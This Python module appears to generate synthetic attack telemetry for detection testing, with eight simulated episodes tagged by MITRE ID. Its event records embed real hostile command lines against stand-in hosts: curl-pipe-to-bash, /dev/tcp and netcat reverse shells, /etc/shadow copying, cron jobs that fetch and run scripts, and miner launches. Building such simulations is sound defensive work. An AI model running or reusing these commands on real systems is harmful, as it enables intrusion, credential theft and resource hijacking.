"""Attack episodes: one function per attack, each a timed event sequence on one victim host.

Bad infrastructure lives in 203.0.113.0/24, 198.51.100.0/24 and made-up `.example` domains.
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable
from dataclasses import dataclass, field

from agents.scenarios.fleet import (
    BASH,
    BASTION,
    BUILD,
    CI_USER,
    CRON,
    DEPLOY,
    DEV,
    DEVELOPERS,
    ROOT,
    SH,
    SSHD,
    WEB,
    WWW,
    Host,
    Item,
    Obj,
    User,
    accept,
    auth_,
    connect,
    dns_,
    exec_,
    exit_,
    file_,
    flow,
    sha256,
)

PAYLOAD_IP = "203.0.113.7"
PAYLOAD_HOST = "x7k2.update-cdn.example"
C2_IP, C2_PORT = "198.51.100.23", 4444
POOL_HOST, POOL_IP = "pool.minexmr.example", "203.0.113.45"
TUNNEL_ZONE = "t.exfil-tunnel.example"
WALLET = (  # a made-up Monero address
    "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
)
_B32 = string.ascii_lowercase + "234567"

Timed = tuple[int, str, Obj, str]  # (offset µs from episode start, kind, object, technique)


@dataclass(slots=True)
class Episode:
    """Accumulates one episode's events, advancing its own clock by random gaps."""

    host: Host
    rng: random.Random
    technique: str
    t: float = 0.0  # seconds since the episode started
    events: list[Timed] = field(default_factory=list)

    def add(self, item: Item, gap: tuple[float, float] = (0.05, 0.6), technique: str = "") -> None:
        self.t += gap[0] + self.rng.random() * (gap[1] - gap[0])
        self.events.append((int(self.t * 1e6), item[0], item[1], technique or self.technique))

    def run(
        self,
        user: User,
        ppid: int,
        parent: str,
        cwd: str,
        exe: str,
        cmdline: str,
        gap: tuple[float, float] = (0.2, 2.0),
        technique: str = "",
    ) -> int:
        """Exec then exit of a short command; returns its pid."""
        pid = self.host.next_pid()
        self.add(exec_(pid, ppid, exe, cmdline, user, parent, cwd), gap, technique)
        self.add(exit_(pid, ppid, exe, user), (0.01, 0.2), technique)
        return pid


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    technique: str
    roles: tuple[str, ...]  # preferred victim roles, in order
    duration_s: float  # upper bound of an episode's length, used to schedule it inside the run
    events: int  # about how many events an episode has, used to estimate the run's span
    build: Callable[[Episode], None]


def _interactive(ep: Episode) -> tuple[User, int, str]:
    """A non-admin person with a login shell on the victim: its owner when that is a person."""
    h = ep.host
    people = (*DEVELOPERS, DEPLOY)
    if h.owner in people:
        user = h.owner
    else:
        local = [u for u in h.users if u in people] or list(DEVELOPERS)
        user = local[int(ep.rng.random() * len(local))]
    return user, h.shell(user), user.home


def curl_pipe_shell(ep: Episode) -> None:
    h, rng = ep.host, ep.rng
    user, shell, cwd = _interactive(ep)
    url = f"http://{PAYLOAD_IP}/install.sh"
    sh, curl, bash = h.next_pid(), h.next_pid(), h.next_pid()
    ep.add(exec_(sh, shell, SH, f"sh -c 'curl -fsSL {url} | bash'", user, BASH, cwd), (0, 0.5))
    ep.add(exec_(curl, sh, "/usr/bin/curl", f"curl -fsSL {url}", user, SH, cwd), (0, 0.01))
    ep.add(exec_(bash, sh, BASH, "bash", user, SH, cwd), (0, 0.01))
    conn = connect(h, PAYLOAD_IP, 80, curl, "/usr/bin/curl")
    ep.add(conn, (0.01, 0.05))
    ep.add(flow(conn, 4000 + int(rng.random() * 3000), 180), (0.1, 0.3))
    ep.add(exit_(curl, sh, "/usr/bin/curl", user), (0.01, 0.05))
    # install.sh fingerprints the box and pulls a second stage by name.
    ep.run(user, bash, BASH, cwd, "/usr/bin/id", "id")
    ep.run(user, bash, BASH, cwd, "/usr/bin/uname", "uname -a", (0.05, 0.3))
    stage = "/tmp/.cache/kupdate"
    fetch = h.next_pid()
    ep.add(
        exec_(
            fetch,
            bash,
            "/usr/bin/curl",
            f"curl -fsSL -o {stage} http://{PAYLOAD_HOST}/kupdate",
            user,
            BASH,
            cwd,
        )
    )
    ep.add(dns_(PAYLOAD_HOST, [PAYLOAD_IP], fetch, "/usr/bin/curl"), (0.01, 0.05))
    conn = connect(h, PAYLOAD_IP, 80, fetch, "/usr/bin/curl")
    ep.add(conn, (0.01, 0.1))
    ep.add(file_("create", stage, fetch, "/usr/bin/curl", 2_400_000, sha256=sha256(rng)), (0.2, 1))
    ep.add(flow(conn, 2_400_000, 220), (0.01, 0.05))
    ep.add(exit_(fetch, bash, "/usr/bin/curl", user), (0.01, 0.05))
    chmod = ep.run(user, bash, BASH, cwd, "/usr/bin/chmod", f"chmod +x {stage}", (0.05, 0.2))
    ep.add(file_("chmod", stage, chmod, "/usr/bin/chmod", mode="0755"), (0, 0.01))
    ep.add(exec_(h.next_pid(), bash, stage, f"{stage} -d", user, BASH, cwd), (0.05, 0.3))
    ep.add(exit_(bash, sh, BASH, user), (0.1, 0.5))


def reverse_shell(ep: Episode) -> None:
    h, rng = ep.host, ep.rng
    httpd = h.httpd or "/usr/sbin/nginx"
    worker = h.httpd_workers[0] if h.httpd_workers else h.next_pid()
    docroot = "/var/www/html"
    # The exploit request that makes the web server run a command.
    inbound = accept(h, C2_IP, 443, worker, httpd)
    ep.add(inbound, (0, 0.5), "T1190")
    sh = h.next_pid()
    if rng.random() < 0.5:
        cmd = f"bash -c 'bash -i >& /dev/tcp/{C2_IP}/{C2_PORT} 0>&1'"
        ep.add(exec_(sh, worker, BASH, cmd, WWW, httpd, docroot), (0.05, 0.3))
        shell = h.next_pid()
        ep.add(exec_(shell, sh, BASH, "bash -i", WWW, BASH, docroot), (0, 0.02))
        client, client_exe = shell, BASH
    else:
        cmd = f"sh -c 'nc -e /bin/sh {C2_IP} {C2_PORT}'"
        ep.add(exec_(sh, worker, SH, cmd, WWW, httpd, docroot), (0.05, 0.3))
        client = h.next_pid()
        ep.add(
            exec_(
                client,
                sh,
                "/usr/bin/nc.traditional",
                f"nc -e /bin/sh {C2_IP} {C2_PORT}",
                WWW,
                SH,
                docroot,
            ),
            (0, 0.02),
        )
        shell = h.next_pid()
        ep.add(
            exec_(shell, client, SH, "/bin/sh", WWW, "/usr/bin/nc.traditional", docroot),
            (0.05, 0.2),
        )
        client_exe = "/usr/bin/nc.traditional"
    conn = connect(h, C2_IP, C2_PORT, client, client_exe)
    ep.add(conn, (0.01, 0.1), "T1071")
    shell_exe = BASH if client_exe == BASH else SH
    for exe, line in (
        ("/usr/bin/id", "id"),
        ("/usr/bin/whoami", "whoami"),
        ("/usr/bin/uname", "uname -a"),
        ("/usr/bin/cat", "cat /etc/passwd"),
        ("/usr/bin/ps", "ps aux"),
    ):
        ep.run(WWW, shell, shell_exe, docroot, exe, line, (1, 5))
    ep.add(
        flow(conn, 1200 + int(rng.random() * 4000), 30_000 + int(rng.random() * 90_000)),
        (1, 3),
        "T1071",
    )


def dns_tunnel(ep: Episode) -> None:
    h, rng = ep.host, ep.rng
    user, shell, cwd = _interactive(ep)
    py = h.next_pid()
    script = "/var/tmp/.t.py"
    ep.add(
        exec_(py, shell, "/usr/bin/python3.11", f"python3 {script} {TUNNEL_ZONE}", user, BASH, cwd),
        (0, 0.5),
        "T1048",
    )
    for seq in range(48 + int(rng.random() * 24)):
        # Base32 chunks of the stolen data plus a sequence number, so every name is unique.
        chunk = "".join(_B32[rng.getrandbits(5)] for _ in range(52))
        query = f"{chunk}{seq:02x}.{TUNNEL_ZONE}"
        reply = "".join(_B32[rng.getrandbits(5)] for _ in range(16))
        ep.add(dns_(query, [reply], py, "/usr/bin/python3.11", qtype="TXT"), (0.1, 0.7))
    ep.add(exit_(py, shell, "/usr/bin/python3.11", user), (0.1, 1), "T1048")


def ssh_bruteforce(ep: Episode) -> None:
    h, rng = ep.host, ep.rng
    attacker = f"198.51.100.{60 + int(rng.random() * 180)}"
    names = ("root", "admin", "ubuntu", "test", "oracle", "postgres", "user", "git", "pi", "deploy")
    for attempt in range(36 + int(rng.random() * 10)):
        if attempt % 3 == 0:
            # Each connection gets three password tries before sshd drops it.
            ep.add(accept(h, attacker, 22, h.sshd, SSHD), (0.2, 1.0))
        user = names[(attempt + int(rng.random() * 3)) % len(names)]
        ep.add(auth_("failure", user, attacker, "password"), (0.4, 1.6))
    victim = DEPLOY
    ep.add(auth_("login", victim.name, attacker, "password"), (0.5, 2))
    shell = h.next_pid()
    ep.add(exec_(shell, h.next_pid(), BASH, "-bash", victim, SSHD, victim.home), (0.05, 0.3))
    ep.run(victim, shell, BASH, victim.home, "/usr/bin/uname", "uname -a", (1, 4))
    ep.run(victim, shell, BASH, victim.home, "/usr/bin/w", "w", (1, 4))


def ransomware_writes(ep: Episode) -> None:
    h, rng = ep.host, ep.rng
    user, shell, home = _interactive(ep)
    exe = "/tmp/.cache/.kworkerd/kthreadd"
    pid = h.next_pid()
    ep.add(exec_(pid, shell, exe, f"{exe} --walk {home} --ext locked", user, BASH, home), (0, 0.5))
    folders = ("Documents", "Documents/finance", "Pictures", "Desktop", "src/sentinel/src/app")
    stems = ("report", "invoice", "budget", "photo", "notes", "contract", "backup", "main")
    exts = ("pdf", "docx", "xlsx", "jpg", "png", "csv", "py", "md")
    for n in range(110 + int(rng.random() * 30)):
        path = (
            f"{home}/{folders[int(rng.random() * len(folders))]}/"
            f"{stems[int(rng.random() * len(stems))]}-{n:03d}.{exts[n % len(exts)]}"
        )
        ep.add(file_("modify", path, pid, exe, 4096 * (1 + int(rng.random() * 400))), (0.02, 0.08))
        ep.add(file_("rename", path, pid, exe, new_path=f"{path}.locked"), (0.005, 0.03))
    note = f"{home}/README_RESTORE_FILES.txt"
    ep.add(file_("create", note, pid, exe, 1874, sha256=sha256(rng)), (0.05, 0.2))
    ep.add(exit_(pid, shell, exe, user), (0.1, 0.5))


def crypto_miner(ep: Episode) -> None:
    h, rng = ep.host, ep.rng
    user = WWW if h.role == WEB else CI_USER if h.role == BUILD else _interactive(ep)[0]
    port = 4444 if rng.random() < 0.5 else 3333
    pool = f"stratum+tcp://{POOL_HOST}:{port}"
    if rng.random() < 0.6:
        exe, cmd = "/tmp/.x/xmrig", f"/tmp/.x/xmrig -o {pool} -u {WALLET} -p x --donate-level 1 -B"
    else:
        exe, cmd = (
            "/dev/shm/kdevtmpfsi",
            f"/dev/shm/kdevtmpfsi -o {pool} -k --cpu-max-threads-hint 90",
        )
    url = f"http://{PAYLOAD_IP}/{exe.rpartition('/')[2]}"
    cwd = exe.rpartition("/")[0]
    # A dropper line (planted earlier) downloads, marks executable and starts the miner.
    sh = h.next_pid()
    ep.add(
        exec_(
            sh,
            h.cron,
            SH,
            f"/bin/sh -c 'curl -fsSL -o {exe} {url} && chmod +x {exe} && {cmd}'",
            user,
            CRON,
            "/",
        ),
        (0, 0.5),
    )
    curl = h.next_pid()
    ep.add(
        exec_(curl, sh, "/usr/bin/curl", f"curl -fsSL -o {exe} {url}", user, SH, "/"), (0.001, 0.01)
    )
    conn = connect(h, PAYLOAD_IP, 80, curl, "/usr/bin/curl")
    ep.add(conn, (0.01, 0.05))
    ep.add(file_("create", exe, curl, "/usr/bin/curl", 6_200_000, sha256=sha256(rng)), (0.3, 1.5))
    ep.add(flow(conn, 6_200_000, 240), (0.001, 0.01))
    ep.add(exit_(curl, sh, "/usr/bin/curl", user), (0.001, 0.01))
    chmod = ep.run(user, sh, SH, "/", "/usr/bin/chmod", f"chmod +x {exe}", (0.01, 0.05))
    ep.add(file_("chmod", exe, chmod, "/usr/bin/chmod", mode="0755"), (0.0, 0.001))
    miner = h.next_pid()
    ep.add(exec_(miner, sh, exe, cmd, user, SH, cwd), (0.01, 0.1))
    ep.add(dns_(POOL_HOST, [POOL_IP], miner, exe), (0.05, 0.3))
    conn = connect(h, POOL_IP, port, miner, exe)
    ep.add(conn, (0.02, 0.1))
    for _ in range(4):
        ep.add(
            flow(conn, 8000 + int(rng.random() * 4000), 3000 + int(rng.random() * 2000)), (5, 10)
        )


def cred_access(ep: Episode) -> None:
    h = ep.host
    user, shell, cwd = _interactive(ep)
    # The direct read fails (not root), so the attacker borrows sudo.
    ep.run(user, shell, BASH, cwd, "/usr/bin/cat", "cat /etc/shadow", (0, 0.5))
    sudo, cp = h.next_pid(), h.next_pid()
    ep.add(
        exec_(sudo, shell, "/usr/bin/sudo", "sudo cp /etc/shadow /tmp/.s", user, BASH, cwd), (1, 4)
    )
    ep.add(auth_("sudo", user.name), (0.5, 3))
    ep.add(
        exec_(cp, sudo, "/usr/bin/cp", "cp /etc/shadow /tmp/.s", ROOT, "/usr/bin/sudo", cwd),
        (0.01, 0.05),
    )
    ep.add(file_("create", "/tmp/.s", cp, "/usr/bin/cp", 1450), (0.001, 0.01))
    ep.add(exit_(cp, sudo, "/usr/bin/cp", ROOT), (0.001, 0.01))
    ep.add(exit_(sudo, shell, "/usr/bin/sudo", user), (0.001, 0.01))
    # sudo still has the cached credential, so no second auth event.
    sudo, chmod = h.next_pid(), h.next_pid()
    ep.add(exec_(sudo, shell, "/usr/bin/sudo", "sudo chmod 644 /tmp/.s", user, BASH, cwd), (1, 4))
    ep.add(
        exec_(chmod, sudo, "/usr/bin/chmod", "chmod 644 /tmp/.s", ROOT, "/usr/bin/sudo", cwd),
        (0.01, 0.05),
    )
    ep.add(file_("chmod", "/tmp/.s", chmod, "/usr/bin/chmod", mode="0644"), (0.001, 0.01))
    ep.add(exit_(chmod, sudo, "/usr/bin/chmod", ROOT), (0.001, 0.01))
    ep.add(exit_(sudo, shell, "/usr/bin/sudo", user), (0.001, 0.01))
    unshadow = h.next_pid()
    ep.add(
        exec_(
            unshadow, shell, "/usr/sbin/unshadow", "unshadow /etc/passwd /tmp/.s", user, BASH, cwd
        ),
        (1, 4),
    )
    ep.add(file_("create", "/tmp/.h", shell, BASH, 1900), (0.01, 0.05))
    ep.add(exit_(unshadow, shell, "/usr/sbin/unshadow", user), (0.01, 0.05))


def persistence_cron(ep: Episode) -> None:
    h, rng = ep.host, ep.rng
    user, shell, cwd = _interactive(ep)
    job = f"* * * * * curl -fsSL http://{PAYLOAD_IP}/c.sh | sh"
    variant = int(rng.random() * 3)
    if variant == 0:
        # Per-user crontab via `crontab -`: written to a temp file, then renamed into place.
        sh, ct = h.next_pid(), h.next_pid()
        line = f"(crontab -l; echo '{job}') | crontab -"
        ep.add(exec_(sh, shell, SH, f'sh -c "{line}"', user, BASH, cwd), (0, 0.5))
        ep.add(exec_(ct, sh, "/usr/bin/crontab", "crontab -", user, SH, cwd), (0.01, 0.05))
        tmp = f"/var/spool/cron/crontabs/tmp.{rng.getrandbits(20):05d}"
        ep.add(file_("create", tmp, ct, "/usr/bin/crontab", 0), (0.01, 0.05))
        ep.add(file_("modify", tmp, ct, "/usr/bin/crontab", 60 + len(job)), (0.001, 0.01))
        ep.add(
            file_(
                "rename",
                tmp,
                ct,
                "/usr/bin/crontab",
                new_path=f"/var/spool/cron/crontabs/{user.name}",
            ),
            (0.001, 0.01),
        )
        ep.add(exit_(ct, sh, "/usr/bin/crontab", user), (0.001, 0.01))
        runner = user
    else:
        # As root (via sudo): a system crontab line or a disguised /etc/cron.d drop-in.
        path = "/etc/crontab" if variant == 1 else "/etc/cron.d/.sysstat-update"
        full = job.replace("* * * * * ", "* * * * * root ")
        sudo, sh = h.next_pid(), h.next_pid()
        cmd = f"sudo sh -c \"echo '{full}' >> {path}\""
        ep.add(exec_(sudo, shell, "/usr/bin/sudo", cmd, user, BASH, cwd), (0, 0.5))
        ep.add(auth_("sudo", user.name), (0.2, 2))
        ep.add(
            exec_(sh, sudo, SH, f"sh -c \"echo '{full}' >> {path}\"", ROOT, "/usr/bin/sudo", cwd),
            (0.01, 0.05),
        )
        action = "modify" if variant == 1 else "create"
        ep.add(file_(action, path, sh, SH, 900 + len(full)), (0.001, 0.01))
        ep.add(exit_(sh, sudo, SH, ROOT), (0.001, 0.01))
        ep.add(exit_(sudo, shell, "/usr/bin/sudo", user), (0.001, 0.01))
        runner = ROOT
    # A minute later cron runs the job.
    run = h.next_pid()
    ep.add(
        exec_(
            run,
            h.cron,
            SH,
            f"/bin/sh -c 'curl -fsSL http://{PAYLOAD_IP}/c.sh | sh'",
            runner,
            CRON,
            runner.home,
        ),
        (40, 60),
    )
    curl = h.next_pid()
    ep.add(
        exec_(
            curl,
            run,
            "/usr/bin/curl",
            f"curl -fsSL http://{PAYLOAD_IP}/c.sh",
            runner,
            SH,
            runner.home,
        ),
        (0, 0.01),
    )
    ep.add(connect(h, PAYLOAD_IP, 80, curl, "/usr/bin/curl"), (0.01, 0.05))
    ep.add(exit_(curl, run, "/usr/bin/curl", runner), (0.1, 0.4))


# The registry: name -> attack. Order here is the order of ATTACKS in the public API.
ATTACK_TABLE: dict[str, Attack] = {
    a.name: a
    for a in (
        Attack("curl-pipe-shell", "T1059.004", (DEV, BUILD, WEB), 20, 25, curl_pipe_shell),
        Attack("reverse-shell", "T1059.004", (WEB,), 40, 20, reverse_shell),
        Attack("dns-tunnel", "T1071.004", (DEV, BUILD), 60, 65, dns_tunnel),
        Attack("ssh-bruteforce", "T1110.001", (BASTION, WEB), 100, 65, ssh_bruteforce),
        Attack("ransomware-writes", "T1486", (DEV,), 25, 250, ransomware_writes),
        Attack("crypto-miner", "T1496", (BUILD, WEB), 50, 18, crypto_miner),
        Attack("cred-access", "T1003.008", (DEV, BASTION), 30, 15, cred_access),
        Attack("persistence-cron", "T1053.003", (WEB, DEV, BUILD), 70, 12, persistence_cron),
    )
}
